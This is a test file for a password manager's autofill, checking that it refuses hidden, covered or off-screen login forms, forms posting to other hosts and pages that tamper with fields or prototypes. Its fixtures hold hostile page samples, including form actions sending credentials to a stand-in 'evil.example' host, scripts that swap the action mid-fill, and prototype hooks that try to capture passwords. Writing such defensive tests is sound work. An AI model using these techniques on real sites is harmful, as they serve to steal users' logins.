import type { Page } from 'puppeteer';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loginForm, loginPage, page } from '../../support/filling/forms.ts';
import { createWorld, kept, valuesIn, type World } from '../../support/filling/world.ts';

let world: World;
let bank: string;
beforeAll(async () => {
  world = await createWorld();
  bank = await world.saveLogin(['bank.example']);
});
afterAll(() => world?.close());

let opened: Page | null = null;
const show = async (html: string): Promise<Page> => {
  world.sites.page('https://bank.example/', html);
  await opened?.close();
  opened = await world.open('https://bank.example/');
  return opened;
};
const filled = { u: kept.username, p: kept.password };
const empty = { u: '', p: '' };

describe('P10 a form that nobody can see is not filled, and the user is told', () => {
  const styled = (style: string) => page(`<div style="${style}">${loginForm()}</div>`);
  it.each([
    ['opacity 0', styled('opacity:0')],
    ['opacity .001', styled('opacity:.001')],
    ['opacity .1', styled('opacity:.1')],
    [
      'opacity .5 three times over',
      page(`<div style="opacity:.5"><div style="opacity:.5"><div style="opacity:.5">${loginForm()}`),
    ],
    ['filter: opacity(0)', styled('filter:opacity(0)')],
    ['a mask of nothing', styled('mask-image:linear-gradient(transparent,transparent)')],
    ['visibility: hidden', styled('visibility:hidden')],
    ['display: none', styled('display:none')],
    ['content-visibility: hidden', styled('content-visibility:hidden')],
    ['0×0 with overflow hidden', styled('width:0;height:0;overflow:hidden')],
    ['scaled to nothing', styled('transform:scale(.01)')],
    ['−5000 px to the left', styled('position:absolute;left:-5000px')],
    ['−5000 px above', styled('position:absolute;top:-5000px')],
    [
      '5000 px to the right of a page that does not scroll',
      `<style>html,body{overflow:hidden}</style>${styled('position:fixed;left:5000px')}`,
    ],
    ['clip-path', styled('clip-path:inset(100%)')],
    ['clip: rect(0 0 0 0)', styled('position:absolute;clip:rect(0,0,0,0)')],
    [
      'behind another element',
      page(`${loginForm()}<div style="position:fixed;inset:0;background:#fff"></div>`),
    ],
    [
      'behind, with a corner left free',
      page(`${loginForm()}<div style="position:fixed;inset:0 0 0 18px;background:#fff"></div>`),
    ],
    [
      'in a frame of opacity 0',
      page(
        `<iframe style="opacity:0;width:600px;height:400px" srcdoc=""></iframe><iframe id="in" style="opacity:0;width:600px;height:400px" src="/inner"></iframe>`,
      ),
    ],
    [
      'in a frame under a cover',
      page(
        `<iframe style="width:600px;height:400px" src="/inner"></iframe><div style="position:fixed;inset:0;background:#fff"></div>`,
      ),
    ],
  ])('%s', async (_, html) => {
    world.sites.page('https://bank.example/inner', loginPage());
    const shown = await show(html);
    const result = await world.fill(shown, bank);
    const values = await Promise.all(shown.frames().map((frame) => valuesIn(frame)));
    expect(JSON.stringify(values)).not.toContain(kept.password);
    expect(result).toEqual({ is: 'hidden-form' });
  });

  it('but one below the fold is, and one beside a hidden one', async () => {
    const below = await show(page(`<div style="height:4000px;scroll-behavior:smooth"></div>${loginForm()}`));
    expect(await world.fill(below, bank)).toMatchObject({ is: 'filled' });
    const decoy = loginForm().replaceAll(/id="(\w)"/g, 'id="$1x"');
    const beside = await show(page(`<div style="opacity:0">${decoy}</div>${loginForm()}`));
    expect(await world.fill(beside, bank)).toMatchObject({ is: 'filled' });
    expect(await valuesIn(beside)).toEqual({ ...filled, ux: '', px: '' });
  });

  it('a hidden user name beside a visible password stays empty', async () => {
    const shown = await show(page(loginForm().replace('<input id="u"', '<input style="opacity:0" id="u"')));
    expect(await world.fill(shown, bank)).toEqual({ is: 'filled', username: false, password: true });
    expect(await valuesIn(shown)).toEqual({ u: '', p: kept.password });
  });
});

describe('where the form sends', () => {
  it.each([
    ['its action', loginPage('action="https://evil.example/take"'), 'evil.example'],
    [
      'a button’s formaction',
      page(loginForm('', '<button formaction="https://evil.example/take">Go</button>')),
      'evil.example',
    ],
    ['plain http of its own host', loginPage('action="http://bank.example/take"'), 'http://bank.example'],
    ['a mail', loginPage('action="mailto:evil@evil.example"'), 'mailto:'],
  ])('P11 %s: named before anything is filled', async (_, html, host) => {
    const shown = await show(html);
    expect(await world.fill(shown, bank)).toEqual({ is: 'confirm-host', actionHost: host });
    expect(await valuesIn(shown)).toEqual(empty);
    expect(await world.fill(shown, bank, 'another.example')).toEqual({
      is: 'confirm-host',
      actionHost: host,
    });
    expect(await world.fill(shown, bank, host)).toMatchObject({ is: 'filled' });
    expect(await valuesIn(shown)).toEqual(filled);
  });

  it('P11 nothing to ask for its own page, a script, or no action', async () => {
    for (const action of ['', 'action=""', 'action="/login?a"', 'action="#"', 'action="javascript:void 0"']) {
      const shown = await show(loginPage(action));
      expect(await world.fill(shown, bank)).toMatchObject({ is: 'filled' });
    }
  });

  it('P12 an action changed by a script after loading counts as it is at the fill', async () => {
    const shown = await show(
      loginPage('action="/login"', `setTimeout(() => { f.action = 'https://evil.example/take'; }, 300)`),
    );
    await shown.waitForFunction(`f.action.includes('evil')`);
    expect(await world.fill(shown, bank)).toEqual({ is: 'confirm-host', actionHost: 'evil.example' });
    expect(await valuesIn(shown)).toEqual(empty);
  });

  it('P12 an action changed while the user name is filled stops the password', async () => {
    const shown = await show(
      loginPage(
        'action="/login"',
        `u.addEventListener('input', () => { f.action = 'https://evil.example/take'; })`,
      ),
    );
    expect(await world.fill(shown, bank)).toEqual({ is: 'page-changed' });
    expect(await valuesIn(shown)).toMatchObject({ p: '' });
  });
});

/** What a page may do to its password field between the choice and the fill. */
const changes = [
  ['type password → text', `p.type = 'text'`],
  ['replaced by a copy', 'p.replaceWith(p.cloneNode())'],
  [
    'moved to another form',
    `document.body.append(Object.assign(document.createElement('form'), { id: 'g' })); g.append(p)`,
  ],
  [
    'given to another form',
    `document.body.append(Object.assign(document.createElement('form'), { id: 'g' })); p.setAttribute('form', 'g')`,
  ],
  [
    'moved into a frame',
    `const frame = document.body.appendChild(document.createElement('iframe')); frame.contentDocument.body.append(p)`,
  ],
  ['taken out', 'p.remove()'],
  ['hidden', `p.style.opacity = '0'`],
  ['moved out of sight', `f.style.cssText = 'position:fixed;left:-4000px'`],
  [
    'covered',
    `document.body.insertAdjacentHTML('beforeend', '<div style="position:fixed;inset:0;background:#fff"></div>')`,
  ],
];

describe('which field', () => {
  it('P13 a text field named password gets none', async () => {
    const shown = await show(loginPage().replace('type="password"', 'type="text"'));
    await world.fill(shown, bank);
    expect(JSON.stringify(await valuesIn(shown))).not.toContain(kept.password);
  });

  it.each(changes)('P14 %s when the user name is typed: the password is not written', async (_, change) => {
    for (const moment of ['u, "focus"', 'u, "input"', 'u, "change"', 'p, "focus"', 'p, "keydown"']) {
      const shown = await show(
        loginPage(
          'onsubmit="return false"',
          `const seen = []; const all = [u, p];
           for (const one of all) for (const type of ['input', 'change']) one.addEventListener(type, () => seen.push(one.value));
           globalThis.seenIn = () => JSON.stringify([seen, all.map(({ value }) => value)]);
           const change = () => { ${change} };
           const [node, type] = [${moment}]; node.addEventListener(type, change, { once: true });`,
        ),
      );
      const result = await world.fill(shown, bank);
      expect(await shown.evaluate('seenIn()'), moment).not.toContain(kept.password);
      expect(result, moment).toEqual({ is: 'page-changed' });
    }
  });

  it('P16 a field too short for the password is left alone, and the limit named', async () => {
    const shown = await show(loginPage().replace('type="password"', 'type="password" maxlength="8"'));
    expect(await world.fill(shown, bank)).toEqual({ is: 'too-long', limit: 8 });
    expect(await valuesIn(shown)).toEqual(empty);
  });

  it('a sign-up, a change of password and a reset get nothing', async () => {
    const password = (name: string, more = '') =>
      `<label>${name}<input type="password" name="${name}" ${more}></label>`;
    for (const form of [
      `<form><h2>Create an account</h2><label>E-mail <input name="email"></label>${password('password')}<button>Sign up</button></form>`,
      `<form><label>E-mail <input name="email"></label>${password('password', 'autocomplete="new-password"')}<button>Go</button></form>`,
      `<form>${password('old')}${password('new')}${password('repeat')}<button>Save</button></form>`,
      `<form><h2>Reset your password</h2>${password('password')}<button>Reset password</button></form>`,
    ]) {
      const shown = await show(page(form));
      expect(await world.fill(shown, bank)).toEqual({ is: 'no-form' });
      expect(await shown.$$eval('input', (all) => all.map(({ value }) => value).join(''))).toBe('');
    }
  });
});

describe('a page that has prepared itself', () => {
  it('P35 by patching the prototypes: the real field is filled, and no patch sees a thing before that', async () => {
    const shown = await show(
      `<script>
        globalThis.caught = [];
        const note = (name) => (...given) => { try { caught.push(name + ' ' + given.map(String).join()); } catch {} };
        for (const proto of [EventTarget.prototype, Element.prototype, Document.prototype, Array.prototype, Map.prototype])
          for (const name of ['addEventListener', 'attachShadow', 'querySelectorAll', 'elementFromPoint', 'push', 'map', 'get'])
            if (Object.hasOwn(proto, name)) {
              const real = proto[name];
              proto[name] = function (...given) { if (given.some((one) => String(one).includes('canary'))) note(name)(...given); return real.apply(this, given); };
            }
        Object.defineProperty(Object.prototype, 'password', { set: note('Object.prototype.password'), get: () => undefined, configurable: true });
        Object.defineProperty(HTMLInputElement.prototype, 'value', {
          get: () => '', set: note('value setter'), configurable: true });
      </script>${loginForm()}`,
    );
    expect(await world.fill(shown, bank)).toEqual({ is: 'filled', username: true, password: true });
    expect(await shown.evaluate('caught')).toEqual([]);
    const value = await shown.evaluate(() => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      const clean = (frame.contentWindow as unknown as typeof globalThis).HTMLInputElement.prototype;
      const field = document.querySelector('#p');
      return Object.getOwnPropertyDescriptor(clean, 'value')?.get?.call(field) as string;
    });
    expect(value).toBe(kept.password);
  });

  it('P36 by naming its fields after properties: nothing throws, and the right fields are filled', async () => {
    const clobbering = [
      'action',
      'submit',
      'elements',
      'method',
      'getAttribute',
      'querySelectorAll',
      'contains',
      'matches',
      'parentNode',
      'textContent',
      'ownerDocument',
      'isConnected',
      'getRootNode',
      'nodeType',
      'assignedSlot',
      'id',
    ]
      .map((name) => `<input type="hidden" name="${name}">`)
      .join('');
    const inDocument = [
      'documentElement',
      'querySelectorAll',
      'getElementById',
      'elementFromPoint',
      'defaultView',
      'title',
      'body',
      'activeElement',
      'chrome',
      'browser',
      'location',
    ]
      .map((name) => `<img name="${name}" alt=""><form name="${name}"></form>`)
      .join('');
    const shown = await show(page(`${inDocument}${loginForm('action="/login"', clobbering)}`));
    const errors: unknown[] = [];
    shown.on('pageerror', (error) => errors.push(error));
    expect(await world.fill(shown, bank)).toEqual({ is: 'filled', username: true, password: true });
    expect(await shown.evaluate('[u.value, p.value]')).toEqual([kept.username, kept.password]);
    expect(errors).toEqual([]);
  });

  it('P36 by naming a field action: what the form really sends to is what counts', async () => {
    const shown = await show(
      page(
        loginForm(
          'action="https://evil.example/"',
          '<input type="hidden" name="action" value="https://bank.example/">',
        ),
      ),
    );
    expect(await world.fill(shown, bank)).toEqual({ is: 'confirm-host', actionHost: 'evil.example' });
  });

  it('P15 by thousands of fields, deep shadow roots and a storm of changes: it stays as quick and as small as it was', async () => {
    const shown = await show(
      page(
        `${'<input type="password">'.repeat(50)}<div id="many"></div>`,
        `many.innerHTML = '<input>'.repeat(5000);
         let at = document.body;
         for (let n = 0; n < 400; n += 1) {
           const host = at.appendChild(document.createElement('div'));
           at = host.attachShadow({ mode: 'open' });
           at.innerHTML = '<form><input name=a></form>';
         }
         globalThis.tasks = [];
         new PerformanceObserver((list) => tasks.push(...list.getEntries().map(({ duration }) => duration))).observe({ type: 'longtask' });
         setInterval(() => { for (let n = 0; n < 10; n += 1) many.children[n].replaceWith(document.createElement('input')); }, 10);`,
      ),
    );
    const longest = async (milliseconds: number, act: () => Promise<unknown>): Promise<number> => {
      await shown.evaluate('tasks.length = 0');
      const end = Date.now() + milliseconds;
      while (Date.now() < end) await act();
      return shown.evaluate('Math.max(0, ...tasks)') as Promise<number>;
    };
    const session = await shown.createCDPSession();
    const heap = async (): Promise<number> => {
      await session.send('HeapProfiler.collectGarbage');
      return (await session.send('Runtime.getHeapUsage')).usedSize;
    };
    await world.fill(shown, bank);
    const small = await heap();
    const before = await longest(3000, () => new Promise((resolve) => setTimeout(resolve, 500)));
    const asked = await longest(5000, () => world.fill(shown, bank));
    expect(asked).toBeLessThan(Math.max(200, 3 * before));
    expect(await heap()).toBeLessThan(small + 5_000_000);
  });
});
